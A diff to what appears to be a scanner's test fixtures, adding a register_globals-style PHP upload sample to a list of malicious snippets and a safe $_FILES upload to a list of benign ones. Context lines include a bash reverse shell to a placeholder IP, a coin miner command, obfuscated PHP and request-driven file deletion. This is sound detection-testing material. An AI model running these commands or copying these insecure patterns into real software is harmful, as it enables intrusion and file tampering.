@@ -135,6 +135,7 @@ SNIPPETS: dict[str, bytes] = {
     "php_file_operation_on_request": b"<?php if ($_POST['do'] == 'rm') { unlink($_POST['target']); } ?>",
     "php_non_alphanumeric_code": (b"<?php $_ = []; $__ = $_ . ''; $___ = $__[3]; " + b"$__ .= $___ ^ $__; " * 12
                                   + b"$_[$___]($_[$__]); ?>"),
+    "php_register_globals_upload": b'<?php if ($upfile) { copy($upfile, "$target/$upfile_name"); } ?>',
     # backdoors, miners, ransom notes (other files of the default set)
     "reverse_shell_one_liner": b"bash -i >& /dev/tcp/203.0.113.1/4444 0>&1",
     "coin_miner": b"./run -o stratum+tcp://pool.example.net:3333 -u wallet",
@@ -163,6 +164,9 @@ BENIGN: dict[str, bytes] = {
     "method-on-request-value": b"<?php if ($table->rename($_POST['new_name'])) { echo 'ok'; } ?>",
     # Blade's compiled views use $__env and $__data: underscores followed by letters are names
     "blade-compiled-view": b"<?php " + b"echo $__env->make('x', $__data)->render(); " * 20 + b"?>",
+    # an application copies an upload it took from $_FILES to a name it chose
+    "upload-from-files": (b"<?php $tmp = $_FILES['doc']['tmp_name']; $doc_name = basename($_FILES['doc']['name']);"
+                          b' move_uploaded_file($tmp, "$dir/$doc_name"); ?>'),
     # a test asserts that an image's binary signature is absent (Drupal's image style tests)
     "png-signature-in-a-test": (b"<?php $this->assertStringNotContainsString(chr(137) . chr(80) . chr(78)"
                                 b" . chr(71) . chr(13) . chr(10), $raw); ?>"),
